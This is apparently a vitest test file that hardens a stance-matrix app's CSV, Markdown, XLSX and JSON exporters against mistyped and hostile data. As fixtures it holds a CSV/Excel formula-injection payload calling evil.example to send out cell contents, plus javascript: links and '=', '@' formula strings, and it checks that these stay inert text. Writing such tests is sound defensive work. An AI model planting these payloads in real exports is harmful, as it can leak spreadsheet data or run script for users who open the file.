/**
 * Exports and readers on hostile data: values of the wrong type written around the schema guard
 * (raw Yjs calls, as an older server would have stored them), and text built to run as a
 * formula or split a CSV row. Readers show a marker; every export succeeds and writes only text.
 */
import { afterAll, describe, expect, it } from 'vitest';
import { execFile, execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import * as Y from 'yjs';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { INVALID_VALUE, addSource, readMatrix, setNote, setStance } from '../../shared/matrix.ts';
import { exportCsv } from '../../shared/exports/csv.ts';
import { exportJson, readExtras } from '../../shared/exports/json.ts';
import { exportMarkdown } from '../../shared/exports/markdown.ts';
import { exportXlsx } from '../../shared/exports/xlsx.ts';
import { compareMatrices } from '../../shared/versions/compare.ts';
import type { MatrixData } from '../../shared/schema.ts';
import { BAD_WRITES, CELL, diff, serverDoc } from './guard-fixtures.ts';

const EXPORTED_AT = new Date('2026-11-22T14:05:00.000Z');
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Details")';

/** A doc with real content plus one value the contract forbids, written directly. */
function docWith(write: (doc: Y.Doc) => void): Y.Doc {
  const doc = serverDoc();
  setStance(doc, 'russia', 'ceasefire', 'conditional');
  setNote(doc, 'ukraine', 'energy', 'A valid note');
  addSource(doc, 'russia', 'ceasefire', { id: 'good', quote: 'Yes, but', speaker: 'Putin', link: 'https://example.org/x', addedBy: 'Ana' });
  // Written on a replica and applied as an update, as a server without the guard stored it
  // (a doc that already uses "stances" as a map cannot call getArray("stances") itself).
  Y.applyUpdate(doc, diff(doc, write));
  return doc;
}

async function xlsxCells(bytes: Uint8Array): Promise<ExcelJS.Cell[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  const cells: ExcelJS.Cell[] = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => void cells.push(cell))));
  return cells;
}

async function everyExport(doc: Y.Doc) {
  const matrix = readMatrix(doc);
  const json = exportJson(matrix, { exportedAt: EXPORTED_AT }, readExtras(doc));
  const csv = exportCsv(matrix);
  const md = exportMarkdown(matrix, { exportedAt: EXPORTED_AT });
  const xlsx = await exportXlsx(matrix, { exportedAt: EXPORTED_AT });
  compareMatrices(matrix, matrix);
  return { matrix, json, csv, md, xlsx };
}

/** No formula, and no link but http(s), anywhere in the workbook. */
async function expectInertWorkbook(bytes: Uint8Array): Promise<ExcelJS.Cell[]> {
  const cells = await xlsxCells(bytes);
  for (const cell of cells) {
    expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
    if (cell.type === ExcelJS.ValueType.Hyperlink) expect(cell.hyperlink).toMatch(/^https?:\/\//);
  }
  return cells;
}

describe('readers and exports on values of the wrong type', () => {
  it.each(BAD_WRITES)('read and export a doc holding $name', async ({ write }) => {
    const doc = docWith(write);
    const { matrix, json, csv, md, xlsx } = await everyExport(doc);
    expect(matrix.parties.length).toBeGreaterThan(0);
    expect(JSON.parse(json).matrix.cells.length).toBeGreaterThan(0);
    expect(parse(csv, { bom: true }).length).toBeGreaterThan(1);
    expect(md).toContain('| Party |');
    await expectInertWorkbook(xlsx);
  });

  it('shows the marker where a note, a name or a quote has the wrong type', async () => {
    const doc = docWith((d) => {
      d.getMap('notes').set(CELL, { formula: 'HYPERLINK("http://evil.example")' });
      (d.getMap('parties').get('ukraine') as Y.Map<unknown>).set('name', 42);
      d.getMap('sources').set('bad', { cell: CELL, quote: { formula: '1+1' }, speaker: 7, link: 'javascript:alert(1)', addedBy: 'x', addedAt: '' });
      d.getMap('scale').set('supports', { id: 'supports', label: { formula: '1+1' }, symbol: '+2', value: '=2+3', color: 'red', textColor: 1, order: 5 });
    });
    const { matrix, csv, md, xlsx } = await everyExport(doc);
    const cell = matrix.cells.find((c) => c.partyId === 'russia' && c.issueId === 'ceasefire')!;
    expect(cell.note).toBe(INVALID_VALUE);
    expect(matrix.parties.find((p) => p.id === 'ukraine')?.name).toBe(INVALID_VALUE);
    expect(cell.sources.find((s) => s.id === 'bad')).toMatchObject({ quote: INVALID_VALUE, speaker: INVALID_VALUE });
    expect(matrix.scale.find((l) => l.id === 'supports')).toMatchObject({ label: INVALID_VALUE, value: null, color: '#ffffff' });
    expect(csv).toContain(INVALID_VALUE);
    expect(md).toContain(INVALID_VALUE);
    expect(md).not.toContain('<javascript:');
    const cells = await expectInertWorkbook(xlsx);
    expect(cells.some((c) => c.value === INVALID_VALUE)).toBe(true);
  });

  it('a note kept as Y.Text reads as its text', () => {
    const doc = docWith((d) => d.getMap('notes').set(CELL, new Y.Text('Typed together')));
    expect(readMatrix(doc).cells.find((c) => c.partyId === 'russia' && c.issueId === 'ceasefire')?.note).toBe('Typed together');
  });

  it('an edit over a stored value of the wrong type replaces it', () => {
    const doc = docWith((d) => {
      d.getMap('notes').set(CELL, 42);
      d.getMap('stances').set(CELL, { evil: true });
    });
    setNote(doc, 'russia', 'ceasefire', '');
    setStance(doc, 'russia', 'ceasefire', 'supports');
    const cell = readMatrix(doc).cells.find((c) => c.partyId === 'russia' && c.issueId === 'ceasefire');
    expect(cell).toMatchObject({ note: '', stance: 'supports' });
  });
});

/** A matrix whose fields hold what the type says they cannot: the exporters' own defence. */
function hostileMatrix(): MatrixData {
  const doc = docWith(() => {});
  const m = readMatrix(doc);
  const cell = m.cells.find((c) => c.partyId === 'russia' && c.issueId === 'ceasefire')!;
  cell.note = { formula: 'SUM(1,1)' } as unknown as string;
  cell.sources.push({
    id: 'evil',
    quote: `Harmless start\n${HYPERLINK}`,
    speaker: '@SUM(1+1)',
    document: { richText: [{ text: 'x' }] } as unknown as string,
    date: '2025-03-13 | *bold* [x](javascript:alert(1))',
    link: 'javascript:alert(1)',
    addedBy: '=1+1',
    addedAt: '',
    order: 'a9',
  });
  m.scale = m.scale.map((l) => (l.id === 'conditional' ? { ...l, value: '=2+3' as unknown as number } : l));
  return m;
}

describe('exports write text, never formulas or foreign links', () => {
  it('CSV: a quote with a line break before a formula stays one field of one row', () => {
    const csv = exportCsv(hostileMatrix());
    const rows = parse(csv, { bom: true }) as string[][];
    expect(rows.every((r) => r.length === 11)).toBe(true);
    const evil = rows.find((r) => r[4]?.startsWith('Harmless start'))!;
    expect(evil[4]).toBe(`Harmless start\n${HYPERLINK}`);
    // Also with a reader that splits rows on LF alone: the field is quoted, so it still holds.
    expect(parse(csv.replace(/\r\n/g, '\n'), { bom: true, record_delimiter: '\n' }).length).toBe(rows.length);
    expect(evil[5]).toBe("'@SUM(1+1)");
    expect(evil[9]).toBe(INVALID_VALUE);
    expect(rows.filter((r) => r[2] === 'Conditional').every((r) => r[3] === "'=2+3")).toBe(true);
    for (const row of rows) for (const field of row) expect(field).not.toMatch(/^[=+@\t\r]/);
  });

  it('Markdown: the date and every other field are escaped; only http(s) links are linked', () => {
    const md = exportMarkdown(hostileMatrix(), { exportedAt: EXPORTED_AT });
    expect(md).toContain('2025-03-13 \\| \\*bold\\* \\[x\\](javascript:alert(1))');
    expect(md).not.toContain('<javascript:');
    expect(md).toContain('<https://example.org/x>');
    expect(md).toContain('Harmless start<br>=HYPERLINK');
  });

  it('XLSX: every cell from the matrix is a string; links only for http(s)', async () => {
    const cells = await expectInertWorkbook(await exportXlsx(hostileMatrix(), { exportedAt: EXPORTED_AT }));
    expect(cells.some((c) => c.value === `Harmless start\n${HYPERLINK}`)).toBe(true);
    expect(cells.some((c) => c.value === 'javascript:alert(1)')).toBe(true);
    expect(cells.some((c) => c.value === INVALID_VALUE)).toBe(true);
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Hyperlink).map((c) => c.hyperlink)).toEqual(['https://example.org/x']);
  });
});

function findOffice(): string | null {
  for (const name of ['soffice', 'libreoffice']) {
    try {
      return execFileSync('sh', ['-c', `command -v ${name}`], { encoding: 'utf8' }).trim() || null;
    } catch {
      // not on PATH
    }
  }
  return null;
}
const office = findOffice();
if (!office) console.warn('export-hardening: the LibreOffice check is skipped, LibreOffice is not installed.');

describe.skipIf(!office)('XLSX of hostile data in LibreOffice', () => {
  const profile = fs.mkdtempSync(path.join(os.tmpdir(), 'stance-grid-lo-profile-'));
  afterAll(() => fs.rmSync(profile, { recursive: true, force: true }));

  it('shows the text, not a formula result', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'stance-grid-lo-'));
    try {
      const file = path.join(dir, 'hostile.xlsx');
      fs.writeFileSync(file, await exportXlsx(hostileMatrix(), { exportedAt: EXPORTED_AT }));
      const to = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1';
      await promisify(execFile)(office!, [`-env:UserInstallation=file://${profile}`, '--headless', '--convert-to', to, '--outdir', dir, file], {
        timeout: 90_000,
      });
      const sources = parse(fs.readFileSync(path.join(dir, 'hostile-Sources.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
      const evil = sources.find((s) => s.Quote?.startsWith('Harmless start'))!;
      expect(evil.Quote).toBe(`Harmless start\n${HYPERLINK}`);
      expect(evil['Added by']).toBe('=1+1');
      expect(evil.Link).toBe('javascript:alert(1)');
      expect(evil.Note).toBe(INVALID_VALUE);
      expect(sources.filter((s) => s.Stance === 'Conditional').every((s) => s['Stance value'] === '=2+3')).toBe(true);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);
});
